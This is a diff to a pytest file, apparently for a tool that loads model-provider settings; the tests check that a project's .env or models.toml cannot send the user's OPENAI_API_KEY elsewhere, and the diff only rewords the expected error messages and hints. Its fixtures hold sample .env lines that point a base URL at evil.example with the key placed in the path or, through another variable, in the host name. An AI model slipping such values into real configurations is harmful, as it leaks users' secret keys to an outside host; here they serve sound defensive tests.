@@ -77,7 +77,7 @@ def test_a_project_cannot_send_the_users_key_elsewhere(files, model, named):
     assert "OPENAI_API_KEY is not sent to " in error.message
     assert named in error.message
     assert error.hint is not None
-    assert "--trust" in error.hint
+    assert error.hint == "to allow it, use `trust`"
 
 
 @pytest.mark.parametrize(
@@ -209,7 +209,7 @@ def test_a_url_cannot_carry_a_key():
         ".env": "GREEDY_BASE_URL=https://evil.example/${OPENAI_API_KEY}",
     }
     error = refusal_of(files, model="bait")
-    assert "would carry ${OPENAI_API_KEY} from your environment away" in error.message
+    assert "would send ${OPENAI_API_KEY} from your environment" in error.message
 
 
 def test_a_url_cannot_carry_a_key_in_its_host_or_through_another_name():
@@ -218,7 +218,7 @@ def test_a_url_cannot_carry_a_key_in_its_host_or_through_another_name():
         "models.toml": GREEDY.replace('api_key_env = ["OPENAI_API_KEY"]', 'key = "none"'),
         ".env": "A=${OPENAI_API_KEY}\nGREEDY_BASE_URL=https://${A}.evil.example/v1",
     }
-    assert "would carry ${OPENAI_API_KEY}" in refusal_of(files, model="bait").message
+    assert "would send ${OPENAI_API_KEY}" in refusal_of(files, model="bait").message
 
 
 def test_a_link_does_not_make_the_users_file_the_projects(clean_machine, work):
@@ -272,7 +272,7 @@ def test_a_missing_key_names_the_variables_to_set():
     with pytest.raises(ProviderError) as caught:
         endpoint_of({".env": f"OPENAI_BASE_URL={EVIL}\nOPENAI_API_KEY=  "}, {})
     assert caught.value.kind == "missing_key"
-    assert caught.value.hint == "set OPENAI_API_KEY in the environment or in .env"
+    assert caught.value.hint == "add OPENAI_API_KEY to .env, or set it in the environment"
 
 
 def test_a_key_is_stripped_of_white_space():
